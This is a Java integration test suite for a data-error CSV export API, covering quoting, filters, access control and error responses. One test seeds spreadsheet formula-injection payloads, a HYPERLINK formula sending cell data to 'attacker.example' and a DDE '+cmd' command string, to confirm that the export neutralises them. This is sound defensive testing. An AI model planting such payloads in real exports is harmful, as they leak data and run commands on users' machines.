package io.dataops.validation.rest;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.dataops.model.Topics;
import io.dataops.model.events.EventCodec;
import io.dataops.model.events.PipelineEvent;
import io.dataops.testing.JwtKeysResource;
import io.dataops.testing.KafkaBrokerResource;
import io.dataops.testing.TestKafka;
import io.dataops.testing.TestTokens;
import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;

import javax.sql.DataSource;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;

/** The CSV export of DATA_ERRORS, per file and across files. */
@QuarkusTest
@WithTestResource(value = KafkaBrokerResource.class, scope = TestResourceScope.GLOBAL)
@WithTestResource(value = JwtKeysResource.class, scope = TestResourceScope.GLOBAL)
class ErrorExportTest {
    private static final AtomicLong IDS = new AtomicLong(5_000_000_000L + System.currentTimeMillis() % 1_000_000 * 100);

    @Inject
    DataSource dataSource;

    private long knownFileWithErrors() throws Exception {
        long fileId = IDS.incrementAndGet();
        TestKafka.send(Topics.PIPELINE_EVENTS, Long.toString(fileId), EventCodec.encode(
                new PipelineEvent.FileUploaded(fileId, "e.csv", "csv", 10, 1, Instant.now())));
        try (Connection c = dataSource.getConnection(); PreparedStatement s = c.prepareStatement(
                "INSERT INTO data_errors (source_file_id, job_id, row_number, raw_data, error_type, error_message,"
                        + " field_name, field_value) VALUES (?, 77, ?, ?, ?, ?, ?, ?)")) {
            Object[][] rows = {
                    {3L, "C2,\"Bob, Jr.\",not-an-email", "FORMAT", "must be an e-mail address", "email", "not-an-email"},
                    {2L, ",Ann,a@x.io", "REQUIRED", "is required", "customer_code", ""},
                    {4L, "C3,Cy,\"say \"\"hi\"\"\"", "FORMAT", "must be an e-mail address", "email", "say \"hi\""}};
            for (Object[] row : rows) {
                s.setLong(1, fileId);
                for (int i = 0; i < row.length; i++) {
                    s.setObject(i + 2, row[i]);
                }
                s.addBatch();
            }
            s.executeBatch();
        }
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> given().auth().oauth2(TestTokens.forRole("viewer"))
                .when().get("/api/data/files/" + fileId + "/errors").then().statusCode(200));
        return fileId;
    }

    private static List<CsvRecord> parse(String csv) {
        return CsvReader.builder().ofCsvRecord(csv).stream().toList();
    }

    @Test
    void a_files_errors_export_as_csv_in_row_order_with_quoting_done_by_the_writer() throws Exception {
        long fileId = knownFileWithErrors();
        Response response = given().auth().oauth2(TestTokens.forRole("analyst"))
                .when().get("/api/data/files/" + fileId + "/errors/export");
        response.then().statusCode(200).contentType("text/csv")
                .header("Content-Disposition", equalTo("attachment; filename=\"errors_file_" + fileId + ".csv\""));
        List<CsvRecord> records = parse(response.asString());
        assertThat(records.get(0).getFields()).containsExactly("id", "file_id", "job_id", "row_number", "field_name",
                "field_value", "error_type", "error_message", "raw_data", "created_at");
        assertThat(records).hasSize(4);
        assertThat(records.subList(1, 4)).extracting(r -> r.getField(3)).containsExactly("2", "3", "4");
        CsvRecord bob = records.get(2);
        assertThat(bob.getField(1)).isEqualTo(Long.toString(fileId));
        assertThat(bob.getField(2)).isEqualTo("77");
        assertThat(bob.getField(4)).isEqualTo("email");
        assertThat(bob.getField(6)).isEqualTo("FORMAT");
        assertThat(bob.getField(8)).isEqualTo("C2,\"Bob, Jr.\",not-an-email");
        assertThat(records.get(3).getField(5)).isEqualTo("say \"hi\"");
    }

    @Test
    void cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text() throws Exception {
        long fileId = IDS.incrementAndGet();
        TestKafka.send(Topics.PIPELINE_EVENTS, Long.toString(fileId), EventCodec.encode(
                new PipelineEvent.FileUploaded(fileId, "f.csv", "csv", 10, 1, Instant.now())));
        String hyperlink = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"open\")";
        try (Connection c = dataSource.getConnection(); PreparedStatement s = c.prepareStatement(
                "INSERT INTO data_errors (source_file_id, job_id, row_number, raw_data, error_type, error_message,"
                        + " field_name, field_value) VALUES (?, 78, ?, ?, 'FORMAT', ?, ?, ?)")) {
            Object[][] rows = {
                    {2L, hyperlink + ",Ann", "must be an e-mail address", "email", hyperlink},
                    {3L, "@SUM(1),Bob", "+cmd|' /C calc'!A0", "-name", "@SUM(1)"},
                    {4L, "\tC9,Cy", "is required", "name", "Ann = Bob"}};
            for (Object[] row : rows) {
                s.setLong(1, fileId);
                for (int i = 0; i < row.length; i++) {
                    s.setObject(i + 2, row[i]);
                }
                s.addBatch();
            }
            s.executeBatch();
        }
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> given().auth().oauth2(TestTokens.forRole("viewer"))
                .when().get("/api/data/files/" + fileId + "/errors").then().statusCode(200));

        List<CsvRecord> records = parse(given().auth().oauth2(TestTokens.forRole("analyst"))
                .when().get("/api/data/files/" + fileId + "/errors/export").then().statusCode(200).extract().asString());

        assertThat(records).hasSize(4);
        CsvRecord link = records.get(1);
        assertThat(link.getField(5)).isEqualTo("'" + hyperlink);
        assertThat(link.getField(8)).isEqualTo("'" + hyperlink + ",Ann");
        CsvRecord sum = records.get(2);
        assertThat(sum.getField(4)).isEqualTo("'-name");
        assertThat(sum.getField(5)).isEqualTo("'@SUM(1)");
        assertThat(sum.getField(7)).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(sum.getField(8)).isEqualTo("'@SUM(1),Bob");
        CsvRecord plain = records.get(3);
        assertThat(plain.getField(8)).isEqualTo("'\tC9,Cy");
        assertThat(plain.getField(5)).isEqualTo("Ann = Bob");
    }

    @Test
    void the_export_across_files_takes_the_same_filters_and_sort() throws Exception {
        long fileId = knownFileWithErrors();
        String csv = given().auth().oauth2(TestTokens.forRole("admin"))
                .queryParam("file_id", fileId).queryParam("error_type", "format").queryParam("sort", "-row_number")
                .when().get("/api/data/errors/export").then().statusCode(200).contentType("text/csv").extract().asString();
        List<CsvRecord> records = parse(csv);
        assertThat(records.subList(1, records.size())).extracting(r -> r.getField(3)).containsExactly("4", "3");
        String none = given().auth().oauth2(TestTokens.forRole("admin")).queryParam("file_id", fileId)
                .queryParam("field", "no_such_field").when().get("/api/data/errors/export").then().statusCode(200)
                .extract().asString();
        assertThat(parse(none)).hasSize(1);
    }

    @Test
    void bad_requests_are_problems_not_broken_downloads() throws Exception {
        long fileId = knownFileWithErrors();
        given().auth().oauth2(TestTokens.forRole("viewer")).when().get("/api/data/files/" + fileId + "/errors/export")
                .then().statusCode(403).contentType("application/problem+json").body("code", equalTo("FORBIDDEN"));
        given().auth().oauth2(TestTokens.forRole("analyst")).queryParam("sort", "raw_data")
                .when().get("/api/data/errors/export")
                .then().statusCode(400).contentType("application/problem+json").body("code", equalTo("INVALID_REQUEST"));
        given().auth().oauth2(TestTokens.forRole("analyst")).when().get("/api/data/files/987654321777/errors/export")
                .then().statusCode(404).contentType("application/problem+json").body("code", equalTo("NOT_FOUND"));
        given().when().get("/api/data/errors/export").then().statusCode(401);
    }
}
